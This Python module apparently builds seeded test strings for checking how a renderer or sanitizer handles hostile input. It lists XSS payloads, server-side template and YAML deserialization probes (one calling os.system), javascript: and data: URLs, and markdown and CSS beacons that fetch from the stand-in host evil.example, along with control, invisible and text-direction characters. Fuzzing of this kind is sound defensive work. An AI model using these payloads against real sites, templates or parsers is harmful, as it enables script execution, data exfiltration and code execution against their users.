"""Texts that try to become markup, code or layout where they are printed, made from a seed."""

from __future__ import annotations

import html
import random

HOST = "evil.example"
# What each text tries to do: leave a mark that outlives the attempt, and call home.
RUN = f"window.name='ran';document.title='ran';fetch('http://{HOST}/ran')"

PIECES = {
    "script": [
        f"<script>{RUN}</script>",
        f"<script src=//{HOST}/x.js></script>",
        f"<ScRiPt\n>{RUN}</sCrIpT\t>",
        f"<script type=module>import 'http://{HOST}/m.js'</script>",
        "<script>alert(1)</script>",
        f"<scr<script>ipt>{RUN}</script>",
    ],
    "handler": [
        f'"><img src=x onerror="{RUN}">',
        f"'><body onload='{RUN}'>",
        f'" autofocus onfocus="{RUN}" x="',
        f"<details open ontoggle={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<marquee onstart={RUN}>",
    ],
    "frame": [
        f"<iframe src=javascript:{RUN}></iframe>",
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        f"<object data=http://{HOST}/o></object><embed src=//{HOST}/e>",
        f"<base href=http://{HOST}/>",
        f'<meta http-equiv=refresh content="0;url=http://{HOST}/">',
        f"<form action=http://{HOST}/><input type=submit></form>",
        f"<link rel=stylesheet href=http://{HOST}/s.css>",
        f"<template><img src=x onerror={RUN}></template><plaintext>",
    ],
    "foreign": [
        f"<svg/onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    ],
    "escape": [
        f"</title><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</textarea></noscript></template></main></body></html><script>{RUN}</script>",
        f"<!--><img src=x onerror={RUN}>-->",
        "<!--",
        "--!>",
        "<![CDATA[",
        "]]>",
        "<?php echo 1 ?>",
        f"<\x00script>{RUN}</script>",
        f"<a\x00href=javascript\t:{RUN}>x</a>",
    ],
    "style": [
        "<style>*{display:none!important}</style>",
        f"<div style='position:fixed;inset:0;background:url(http://{HOST}/p)'>",
        f"}} body{{background:url(http://{HOST}/p)}} @import 'http://{HOST}/s.css'; {{",
        "expression(alert(1)) -moz-binding:url(x)",
    ],
    "address": [
        f"javascript:{RUN}",
        "java\tscript:alert(1)",
        f"data:text/html,<script>{RUN}</script>",
        f"data:image/svg+xml;base64,{'PHN2Zz4' * 4}",
        f"http://{HOST}/a www.{HOST} //{HOST}/b me@{HOST} ftp://{HOST}",
        "vbscript:msgbox(1) file:///etc/passwd blob:x",
    ],
    "markdown": [
        f"![x](http://{HOST}/x.png)",
        f"[x](javascript:{RUN})",
        f"[x]: http://{HOST}/ 'y'\n\n[x]",
        f"<http://{HOST}/> <javascript:alert(1)>",
        "# heading\n## heading\n---\n===",
        "| a | b |\n|---|---|\n| c | d |",
        "```\ncode\n```\n~~~\n    code",
        "- list\n1. list\n> quote\n- [ ] task\n* * *",
        "**bold** _it_ ~~gone~~ `code` ``` [^1] :smile:",
        "$$\\frac{1}{0}$$ \\(x\\) \\[y\\] $z$",
        f"<a href='javascript:{RUN}'>**x**</a>",
        "\\<b>\\</b> &lt;b&gt; &#x3c;b&#62; &amp;lt;",
    ],
    "template": [
        "{{ 7 * 7 }}",
        "{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
        "{{ report.__init__.__globals__ }}",
        "{# gone #}",
        "${7*7} <%= 7*7 %> #{7*7} [[7*7]] {{constructor.constructor('alert(1)')()}}",
        "{{'}}{{'}}",
    ],
    "yaml": [
        "---\nlicense: mit\n---\n",
        "x: [a, {b: c}]  # gone",
        "&a *a !!python/object/apply:os.system ['id']",
        "'single' \"double\" | > % @ `",
        "...\n---\nconfigs: []",
        "null",
        "1e3",
        "2026-01-31",
        "? - : -",
    ],
    "control": [
        "\x00",
        "\x07\x08\x1b[2J\x1b]0;x\x07\x7f",
        "\x85\u2028\u2029\x0b\x0c\r",
        "\ufeff\ufffe\uffff",
        "\U000e0041\U000e007f",
        "\ue000\U000f0000",
    ],
    "invisible": ["\u200b\u200b", "\u00ad\u2060\u180e", "\u200c\u200d", "\ufe0f\u034f", "\u115f\u3164\uffa0"],
    "direction": [
        "\u202egnp.exe\u202c",
        "\u2066\u2067\u2068",
        "\u200f\u200e\u061c",
        "\u202b\u202a\u202d",
        "אבג ABC عربي",
    ],
    "surrogate": ["\ud800", "\udfff\ud83d", "a\udc00b"],
    "long": [
        "W" * 100,
        "x" * 400,
        "\u4e00" * 150,
        "ﷺﷺﷺﷺ",
        "a" + "\u0301" * 60,
        "\u202e" * 500,
        "🏳️‍🌈" * 30,
        "<b>" * 200,
    ],
}


def make_hostile_texts(num_texts: int = 500, seed: int = 0) -> list[str]:
    """Distinct texts; the first ones hold each piece once, the others several that are joined, nested or disguised."""
    rng = random.Random(seed)
    pieces = [piece for kind in PIECES.values() for piece in kind]
    texts = [f"Which one, {index}? {piece}" for index, piece in enumerate(pieces)]
    while len(texts) < num_texts:
        kinds = rng.sample(sorted(PIECES), k=rng.randint(1, 4))
        joined = rng.choice(["", " ", "\n", "\n\n", '"', "'>", "-->", "\t"]).join(rng.choice(PIECES[k]) for k in kinds)
        texts.append(_disguise(joined, rng) + rng.choice([f" {len(texts)}", f"\n{len(texts)}", f"?{len(texts)}"]))
    return texts[:num_texts]


def _disguise(text: str, rng: random.Random) -> str:
    cut = rng.randrange(len(text) + 1)
    disguises = (
        text,
        text.swapcase(),
        html.escape(text),
        f"What happens {text} after that",
        text[:cut] + rng.choice(PIECES["control"] + PIECES["invisible"] + PIECES["direction"]) + text[cut:],
        text[:cut],
        "".join(f"&#{ord(char)};" for char in text[:30]) + text[30:],
    )
    return rng.choice(disguises)
